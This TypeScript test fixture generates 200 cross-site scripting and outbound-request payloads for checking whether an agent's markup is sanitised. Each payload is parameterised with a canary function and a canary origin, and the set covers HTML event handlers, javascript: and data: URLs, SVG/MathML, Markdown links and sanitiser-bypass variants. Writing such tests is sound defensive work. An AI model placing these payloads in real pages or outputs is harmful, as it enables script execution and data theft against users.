/** Where a script that got through, or a request to elsewhere, would show. */
export interface CanaryNames {
  /** A function of the window that a script would call. */
  readonly call: string;
  /** Origin that nothing may ask. */
  readonly origin: string;
}

/**
 * Two hundred strings that make scripts run or requests go out wherever markup of an agent is trusted: in HTML, in
 * attributes, in addresses, in SVG and MathML, by Markdown, by templates, and by ways of getting around sanitisers.
 */
export function xssCorpus({ call, origin }: CanaryNames): readonly string[] {
  const js = `${call}()`;
  const elements = [
    `<script>${js}</script>`,
    `<script src="${origin}/x.js"></script>`,
    `<img src=x onerror=${js}>`,
    `<img src="${origin}/x.png">`,
    `<svg onload=${js}>`,
    `<svg><script>${js}</script></svg>`,
    `<svg><animate onbegin=${js} attributeName=x dur=1s></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${js}</script></svg>#x"></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${js}></style></mglyph></table></mtext></math>`,
    `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
    `<iframe src="javascript:parent.${js}"></iframe>`,
    `<iframe src="${origin}/"></iframe>`,
    `<object data="javascript:${js}"></object>`,
    `<embed src="javascript:${js}">`,
    `<link rel=stylesheet href="${origin}/x.css">`,
    `<link rel=prefetch href="${origin}/p">`,
    `<style>@import "${origin}/x.css"; body{background:url(${origin}/b)}</style>`,
    `<body onload=${js}>`,
    `<input autofocus onfocus=${js}>`,
    `<details open ontoggle=${js}><summary>x</summary></details>`,
    `<video><source onerror=${js}></video>`,
    `<video poster="${origin}/v.png"></video>`,
    `<audio src=x onerror=${js}>`,
    `<marquee onstart=${js}>x</marquee>`,
    `<form action="javascript:${js}"><button>x</button></form>`,
    `<a href="javascript:${js}">x</a>`,
    `<base href="${origin}/">`,
    `<meta http-equiv=refresh content="0;url=${origin}/">`,
    `<template><script>${js}</script></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  ];
  const markdown = [
    `[x](javascript:${js})`,
    `[x](JaVaScRiPt:${js})`,
    `[x](&#106;avascript:${js})`,
    `[x](java\nscript:${js})`,
    `[x](vbscript:${js})`,
    `[x](data:text/html,<script>${js}</script>)`,
    `[x](<javascript:${js}>)`,
    `[x](http://a@${origin.replace("http://", "")}/)`,
    `![x](${origin}/m.png)`,
    `![x](javascript:${js})`,
    `![x][r]\n\n[r]: ${origin}/r.png`,
    `[x][r]\n\n[r]: javascript:${js}`,
    `<javascript:${js}>`,
    `**<img src=x onerror=${js}>**`,
    `# <img src=x onerror=${js}>`,
    `> <img src=x onerror=${js}>`,
    `| <img src=x onerror=${js}> |\n| --- |\n| <script>${js}</script> |`,
    `- [ ] <img src=x onerror=${js}>`,
    `\`\`\`html"><img src=x onerror=${js}>\n<script>${js}</script>\n\`\`\``,
    `\`<img src=x onerror=${js}>\``,
  ];
  const plain = [
    `javascript:${js}`,
    `"><img src=x onerror=${js}>`,
    `'><img src=x onerror=${js}>`,
    `" onmouseover=${js} autofocus onfocus=${js} x="`,
    `{{constructor.constructor('${js}')()}}`,
    `\${${js}}`,
    `</title><script>${js}</script>`,
    `</textarea><script>${js}</script>`,
    `--><script>${js}</script>`,
    `]]><script>${js}</script>`,
  ];
  const around = [
    (text: string) => text,
    (text: string) => text.replaceAll("<", "<\u0000").replace("<\u0000", "<"),
    (text: string) => `</p></div>${text}`,
    (text: string) => `text before ${text} and after`,
  ];
  const made = around.flatMap((wrap) => [...elements, ...markdown].map(wrap));
  const upper = elements.map((text) => text.replace(/<(\w+)/g, (_, tag: string) => `<${tag.toUpperCase()}`));
  return [...made.slice(0, 180), ...plain, ...upper].slice(0, 200);
}
